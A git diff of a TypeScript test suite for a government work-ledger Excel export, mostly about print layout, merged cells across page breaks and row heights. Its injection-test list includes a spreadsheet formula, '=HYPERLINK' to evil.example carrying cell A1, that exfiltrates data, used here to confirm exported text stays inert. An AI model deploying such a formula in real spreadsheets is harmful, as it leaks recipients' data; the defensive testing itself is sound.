@@ -7,6 +7,9 @@
 import type ExcelJS from 'exceljs';
 import { db } from '../../cloudfunctions/common/cloud';
 import { buildPlanDocs } from '../../cloudfunctions/common/domain/plan-docs';
+import { landscapeScale, textHeight } from '../../cloudfunctions/common/domain/print-layout';
+import { LEDGER_COLUMNS, LEDGER_PAPER } from '../../cloudfunctions/ledger/src/actions/export';
+import { BODY_PT } from '../../cloudfunctions/ledger/src/xlsx';
 import type { ReportDoc } from '../../cloudfunctions/common/records';
 import { DIRECTORY, TABLE_2021 } from '../../cloudfunctions/common/table';
 import { uploadPrefix, type RoundView } from '../../miniprogram/shared/api';
@@ -22,7 +25,7 @@ import {
   reportInput,
   startUploader,
 } from '../helpers/journey';
-import { cellTypeInXml, fetchFile, readWorkbook, sheetXml } from '../helpers/ledger';
+import { cellTypeInXml, fetchFile, readWorkbook, sheetXml, unzip } from '../helpers/ledger';
 import { ADMIN, okData, startTestCloud, type TestCloud } from '../helpers/local-cloud';
 
 const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1', '-1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
@@ -36,6 +39,7 @@ let late: RoundView;
 let whole: LedgerExportResult;
 let xlsx: Buffer;
 let sheet: ExcelJS.Worksheet;
+let workbook: ExcelJS.Workbook;
 /** Sheet row of (task, unit, round name). */
 const rowOf = new Map<string, number>();
 
@@ -101,8 +105,8 @@ beforeAll(async () => {
 
   whole = okData(await t.ledger(ADMIN)('ledger.export', { year: 2021 }));
   xlsx = await fetchFile(whole);
-  const wb = await readWorkbook(xlsx);
-  sheet = wb.getWorksheet('工作台账') as ExcelJS.Worksheet;
+  workbook = await readWorkbook(xlsx);
+  sheet = workbook.getWorksheet('工作台账') as ExcelJS.Worksheet;
   for (let r = 4; r <= sheet.rowCount; r++) {
     const row = sheet.getRow(r);
     // A merged cell reads as its master (the first row of the merge).
@@ -130,35 +134,82 @@ test('one row per assignment per round in scope, and nothing else', () => {
   expect(sheet.rowCount).toBe(3 + expected.length);
 });
 
-test('the table’s layout: 大项, 小项, 序号, 任务要求 and 责任单位 merged over their rows, a unit over its rounds', () => {
+/** A cell's text as written (a merged cell's slave reads its master's rich text). */
+function plain(v: ExcelJS.CellValue): string {
+  if (v && typeof v === 'object' && 'richText' in v) return v.richText.map((t) => t.text).join('');
+  return v === null || v === undefined ? '' : String(v);
+}
+
+test('the table’s layout: 大项, 小项, 序号, 任务要求 and 责任单位 named on each task and merged over its rows, a unit over its rounds', () => {
   const merges = new Set(sheet.model.merges);
   const rowsOfTask = (no: number) => [...rowOf].filter(([k]) => k.startsWith(`${no}|`)).map(([, r]) => r);
   const span = (nos: number[]) => {
     const rows = nos.flatMap(rowsOfTask);
     return [Math.min(...rows), Math.max(...rows)];
   };
-  const [s1, e1] = span([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]);
-  expect(merges).toContain(`A${s1}:A${e1}`);
-  expect(sheet.getCell(`A${s1}`).text).toBe('一、深化重点领域政府信息公开');
-  const [s9, e9] = span([21, 22, 23, 24]);
-  expect(merges).toContain(`B${s9}:B${e9}`);
-  expect(sheet.getCell(`B${s9}`).text).toBe('(九)积极回应社会关切');
-  const [s24, e24] = span([24]);
-  for (const col of 'CDE') expect(merges).toContain(`${col}${s24}:${col}${e24}`);
+  // Labels repeat per task, and per page within a long task (a merged cell spanning a page
+  // break prints on one page only): the pieces of column A tile the task's rows, each labelled.
+  const pieces = (col: string, [s, e]: number[]) =>
+    [...merges]
+      .map((m) => new RegExp(`^${col}(\\d+):${col}(\\d+)$`).exec(m))
+      .filter((m): m is RegExpExecArray => m !== null)
+      .map((m) => [Number(m[1]), Number(m[2])])
+      .filter(([a]) => a! >= s! && a! <= e!)
+      .sort((a, b) => a[0]! - b[0]!);
+  for (const no of [1, 17]) {
+    const [s, e] = span([no]);
+    const parts = pieces('A', [s!, e!]);
+    expect(parts[0]?.[0]).toBe(s);
+    expect(parts[parts.length - 1]?.[1]).toBe(e);
+    parts.forEach(([a, b], i) => {
+      if (i > 0) expect(a).toBe((parts[i - 1]?.[1] ?? 0) + 1);
+      expect(b).toBeGreaterThanOrEqual(a!);
+      expect(sheet.getCell(`A${a}`).text).toBe('一、深化重点领域政府信息公开');
+      expect(sheet.getCell(`C${a}`).text).toBe(String(no));
+    });
+  }
+  // Task 1 (34 units) is longer than an A3 page: it is printed in parts.
+  expect(pieces('A', span([1])).length).toBeGreaterThan(1);
+  for (const no of [21, 24]) expect(sheet.getCell(`B${span([no])[0]}`).text).toBe('(九)积极回应社会关切');
+  const [s25, e25] = span([25]);
+  for (const col of 'ABCDE') expect(merges).toContain(`${col}${s25}:${col}${e25}`);
+  const [s24] = span([24]);
   expect(sheet.getCell(`D${s24}`).text).toBe(TABLE_2021.tasks[23]?.requirement);
   expect(sheet.getCell(`E${s24}`).text).toBe('市政府办公室牵头,市政府各部门、各镇街配合');
   // 市司法局 on task 24: two rounds in due-date order, one unit cell.
   const ssfj24 = rowOf.get('24|市司法局|上半年') as number;
   expect(rowOf.get('24|市司法局|第三季度')).toBe(ssfj24 + 1);
-  expect(merges).toContain(`F${ssfj24}:F${ssfj24 + 1}`);
-  expect(merges).toContain(`G${ssfj24}:G${ssfj24 + 1}`);
+  // One merged unit cell, unless a page ends between the rounds: then each part names the unit.
+  if (merges.has(`F${ssfj24}:F${ssfj24 + 1}`)) expect(merges).toContain(`G${ssfj24}:G${ssfj24 + 1}`);
+  else for (const r of [ssfj24, ssfj24 + 1]) expect(plain(sheet.getCell(`F${r}`).value)).toBe('市司法局');
+  // 市司法局 on task 25: two rounds, one unit cell.
+  const ssfj25 = rowOf.get('25|市司法局|上半年') as number;
+  expect(merges).toContain(`F${ssfj25}:F${ssfj25 + 1}`);
   // Task 4 has one unit in one round: a single row, nothing merged.
   const [s4, e4] = span([4]);
   expect(s4).toBe(e4);
   expect([...merges].some((m) => m.startsWith(`C${s4}:`))).toBe(false);
-  // Frozen header, A4 landscape one page wide.
+  // Frozen header, A3 landscape one page wide at a legible scale, header on every page, page numbers.
   expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
-  expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1 });
+  expect(sheet.pageSetup).toMatchObject({ paperSize: 8, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
+  expect(
+    landscapeScale(
+      LEDGER_COLUMNS.map((c) => c.width),
+      LEDGER_PAPER,
+      0.4,
+    ) * BODY_PT,
+  ).toBeGreaterThanOrEqual(900);
+  expect(sheet.headerFooter.oddFooter).toContain('&P');
+  // Every body row has an explicit height that fits its longest text.
+  for (let r = 4; r <= sheet.rowCount; r++) {
+    const row = sheet.getRow(r);
+    const own = textHeight(
+      LEDGER_COLUMNS.map((c, i) => ({ text: i >= 5 ? plain(row.getCell(i + 1).value) : '', width: c.width })),
+      BODY_PT,
+    );
+    expect([r, row.height >= own]).toEqual([r, true]);
+  }
+  expect(workbook.creator).toBe('邹城市人民政府办公室');
 });
 
 test('status, latest version, review and evidence of each row', () => {
@@ -178,14 +229,27 @@ test('status, latest version, review and evidence of each row', () => {
   );
 });
 
+/** Whether cell `ref`'s style (its xf in styles.xml) has quotePrefix="1". */
+function quotePrefixed(xml: string, ref: string): boolean {
+  const style = Number(/\bs="(\d+)"/.exec(new RegExp(`<c r="${ref}"([^>]*)>`).exec(xml)?.[1] ?? '')?.[1] ?? 0);
+  const styles = unzip(xlsx).get('xl/styles.xml')?.toString('utf8') ?? '';
+  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
+  const xf = xfs.match(/<xf [^>]*>/g)?.[style] ?? '';
+  return xf.includes('quotePrefix="1"');
+}
+
 test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as number]))(
   'report text %s is a string cell that stays text, and so are its file names and link title',
   (_label, text, taskNo) => {
     const r = rowOf.get(`${taskNo}|市司法局|第三季度`) as number;
     const xml = sheetXml(xlsx, 1);
-    // XML carries a line break as LF: a CR arrives as one.
-    expect(sheet.getCell(`L${r}`).text).toBe(`'${text.replace(/\r/g, '\n')}`);
+    // XML carries a line break as LF: a CR arrives as one. Shown exactly as typed (no
+    // apostrophe): the cell's style carries the quote prefix, so it stays text when edited.
+    expect(sheet.getCell(`L${r}`).text).toBe(text.replace(/\r/g, '\n'));
     expect(cellTypeInXml(xml, `L${r}`)).toBe('inlineStr');
+    expect(quotePrefixed(xml, `L${r}`)).toBe(true);
+    // An ordinary text next to it has no quote prefix.
+    expect(quotePrefixed(xml, `J${r}`)).toBe(false);
     const evidence = sheet.getCell(`R${r}`).text;
     expect(evidence).toContain(`${text.replace(/\r/g, '\n')}.jpg`);
     expect(evidence).toContain(`链接：${text.replace(/\r/g, '\n')} https://`);
